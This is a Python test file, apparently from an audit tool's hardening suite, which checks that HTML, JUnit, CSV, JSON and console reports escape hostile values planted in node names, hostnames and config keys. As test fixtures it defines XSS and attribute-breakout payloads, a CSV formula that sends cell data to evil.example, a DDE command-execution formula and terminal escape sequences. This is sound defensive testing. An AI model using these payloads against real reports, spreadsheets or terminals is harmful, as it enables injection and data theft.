"""Reports escape every value: hostile text planted in a scenario copy (node names, host
names, configuration values and keys, service accounts) reaches every report format, and
none of them can be made to do something.

- HTML (parsed): no injected element or attribute: the set of elements with their attribute
  names is exactly that of the same audit with harmless values, and the hostile texts are
  present as text.
- JUnit: parses as XML (control characters that XML 1.0 forbids must not break it).
- CSV: formula injection neutralised: no cell starts with ``= + - @``, tab or CR.
- JSON: parses, and the values round-trip exactly (escaping must not change data).
- Console: no terminal control sequence from remote data reaches the terminal.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from auditor.cli import main
from tests.hardening import hx_support
from tests.hardening.hx_support import cli_env, rewrite_inventory, run_cli

SCENARIOS = Path(__file__).resolve().parents[2] / "auditor" / "lab" / "scenarios"
hard_lab = hx_support.hard_lab  # the fixture (this folder has no conftest: see hx_support)

XSS = "<script>alert('x1')</script>"
ATTR = '"><img src=x onerror=alert(2)>'
CDATA = "]]><x>cdata</x>"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
CONTROL = "ctl\x07\x1b[2J\x1b]0;pwned\x07\x0bend"
LONG = "L" * 20000
UNICODE = "Größe-日本-🙂-\u202eevil"

HOSTILE_NAMES = {  # manifest node name -> new name (folders stay as they are)
    "MGMT1": "MGMT1" + ATTR + "\x1b[31mred\x07",
    "MGMT2": "=cmd|' /C calc'!A0",
    "SITE1": "+SITE1" + XSS,
    "SITE2": "@SITE2" + CDATA + UNICODE,
}


def _props_append(path: Path, text: str) -> None:
    path.write_bytes(path.read_bytes() + text.encode("utf-8"))


def make_hostile(src: Path, dst: Path, hostile: bool = True) -> dict[str, str]:
    """Copy of the drift scenario with hostile (or, for the baseline, harmless) values."""
    shutil.copytree(src, dst)
    pick = (lambda h, safe: h) if hostile else (lambda h, safe: safe)
    names = {k: pick(v, k + "-safe") for k, v in HOSTILE_NAMES.items()}
    manifest = json.loads((dst / "manifest.json").read_text(encoding="utf-8"))
    for node in manifest["nodes"]:
        node["name"] = names[node["name"]]
    for p in manifest["planted"]:
        p["node"] = names[p["node"]]
    (dst / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    base = "files/c/DispatcherParagon"
    # configuration values and keys that checks quote in findings
    _props_append(dst / "mgmt1" / base / "Management/conf/management.properties",
                  f"hostileKey={pick(XSS + ATTR, 'a')}\r\nsessionTimeoutMinutes={pick(FORMULA, '31')}\r\n"
                  f"cdata{pick(']]>', 'x')}Key={pick(CONTROL, 'b')}\r\nlongValue={pick(LONG, 'c')}\r\n")
    _props_append(dst / "mgmt2" / base / "Management/conf/management.properties",
                  f"hostileKey={pick(UNICODE, 'z')}\r\nlongValue=short\r\n")
    spoc = dst / "site1" / base / "SPOC/conf/modules/spoc.conf"
    _props_append(spoc, f"serverGUID9={pick(XSS, 'g9')}\nserverIP9={pick('-1+2' + CONTROL, '10.9.9.9')}\n"
                        f"serverPORT9={pick(ATTR, '6010')}\n")
    # node facts shown in the node table and in service-account findings
    for folder, host in (("site1", pick(ATTR + CONTROL, "SITE1")), ("mgmt2", pick("=1+1" + XSS, "MGMT2"))):
        facts = json.loads((dst / folder / "node.json").read_text(encoding="utf-8"))
        facts["hostname"] = host
        for svc in facts.get("services", []):
            if svc["name"] == "YSoftIms":
                svc["account"] = pick("@" + ATTR, "CORP\\other-account")
        (dst / folder / "node.json").write_text(json.dumps(facts), encoding="utf-8")
    return names


def run_audit(folder: Path, out: Path) -> tuple[int, str]:
    # color=True: as on a terminal, click does not strip ANSI sequences (so the test sees them)
    result = CliRunner().invoke(main, ["audit", "--from", str(folder), "--out", str(out), "--no-history",
                                       "--format", "html,json,junit,csv"], color=True)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


class _Shape(HTMLParser):
    """Every element with its sorted attribute names, plus script bodies and attribute values."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.scripts: list[str] = []
        self.in_script = False
        self.attr_values: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(sorted(a for a, _ in attrs))))
        self.attr_values += [v or "" for _, v in attrs]
        self.in_script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        (self.scripts if self.in_script else self.text).append(data)


def _shape(html: str) -> _Shape:
    p = _Shape()
    p.feed(html)
    p.close()
    return p


@pytest.fixture(scope="module")
def audits(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    names = make_hostile(SCENARIOS / "drift", tmp / "hostile")
    make_hostile(SCENARIOS / "drift", tmp / "safe", hostile=False)
    code, output = run_audit(tmp / "hostile", tmp / "out-hostile")
    safe_code, _ = run_audit(tmp / "safe", tmp / "out-safe")
    return {"names": names, "out": tmp / "out-hostile", "safe": tmp / "out-safe", "code": code,
            "safe_code": safe_code, "console": output}


def test_audit_of_hostile_scenario_runs(audits):
    assert audits["code"] == 1
    assert audits["safe_code"] == 1


def test_html_has_no_injected_element(audits):
    html = (audits["out"] / "report.html").read_text(encoding="utf-8")
    safe = (audits["safe"] / "report.html").read_text(encoding="utf-8")
    hostile, baseline = _shape(html), _shape(safe)
    injected = set(hostile.elements) - set(baseline.elements)
    assert not injected, injected
    assert not any(tag in ("img", "x") for tag, _ in hostile.elements)
    assert not any(a.startswith("on") for _, attrs in hostile.elements for a in attrs)
    assert "alert('x1')" not in "".join(hostile.scripts)
    assert "alert(2)" not in "".join(hostile.scripts)
    # the same number of each element kind apart from repeated rows: no script/iframe/etc. added
    for tag in ("script", "style", "iframe", "object", "embed", "link", "meta", "base", "form"):
        assert sum(t == tag for t, _ in hostile.elements) == sum(t == tag for t, _ in baseline.elements), tag
    text = "".join(hostile.text) + "".join(hostile.attr_values)
    assert XSS in text
    assert "onerror=alert(2)>" in text  # shown as text, not swallowed
    assert "\x1b" not in html
    assert "\x07" not in html  # control characters never reach the page


def test_junit_parses_and_keeps_the_values(audits):
    data = (audits["out"] / "junit.xml").read_bytes()
    root = ET.fromstring(data)
    blob = ET.tostring(root, encoding="unicode")
    assert "alert('x1')" in blob  # escaped by the writer, restored by the parser
    assert "<x>cdata</x>" not in data.decode("utf-8")
    assert root.iter("testcase")
    assert sum(1 for _ in root.iter("testcase")) > 10


def test_csv_neutralises_formulas(audits):
    text = (audits["out"] / "findings.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 10
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (row[:5], cell[:80])
    nodes = {r[rows[0].index("node")] for r in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in nodes  # neutralised, not dropped


def test_json_round_trips_the_values(audits):
    data = json.loads((audits["out"] / "report.json").read_text(encoding="utf-8"))
    assert {n["name"] for n in data["nodes"]} == set(audits["names"].values())
    blob = json.dumps(data, ensure_ascii=False)
    assert "alert('x1')" in blob
    assert "]]>" in blob


def test_console_strips_terminal_control_sequences(audits):
    out = audits["console"]
    assert "MGMT1\"><img src=x" in out  # the hostile node name is printed ...
    assert "\x1b" not in out, re.findall(r".{0,20}[\x1b\x07].{0,20}", out)[:3]
    assert "\x07" not in out, re.findall(r".{0,20}[\x1b\x07].{0,20}", out)[:3]  # ... inert


def test_collect_and_audit_consoles_strip_escapes_from_a_remote_hostname(hard_lab, tmp_path):
    """A node answering with a host name full of terminal control sequences (identity
    mismatch reason quotes it) cannot reach the terminal through collect or audit output."""
    evil = "EVIL\x1b]0;pwned\x07\x1b[2J"
    _, inv = hard_lab("healthy", password="Re-2207-escape-Pw!", username="hx-escape", password_env="HX_ESCAPE_PW",
                      faults={"SITE1": {"wrong_hostname": evil}})
    rewrite_inventory(inv, {"deadline": 20})
    env = cli_env(tmp_path, HX_ESCAPE_PW="Re-2207-escape-Pw!")
    collect = run_cli(["collect", "--inventory", str(inv), "--out", str(tmp_path / "snap"), "--no-progress"], env)
    audit = run_cli(["audit", "--inventory", str(inv), "--out", str(tmp_path / "out"), "--no-progress",
                     "--no-history", "--format", "json"], env)
    for run in (collect, audit):
        assert run.returncode == 3, run.stdout + run.stderr
        assert "identity mismatch" in run.stdout
        assert "evil" in run.stdout.lower()
        assert "\x1b" not in run.stdout + run.stderr
        assert "\x07" not in run.stdout + run.stderr
    report = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
    assert any("\x1b" in n["reason"] for n in report["nodes"])  # data kept as-is in the JSON
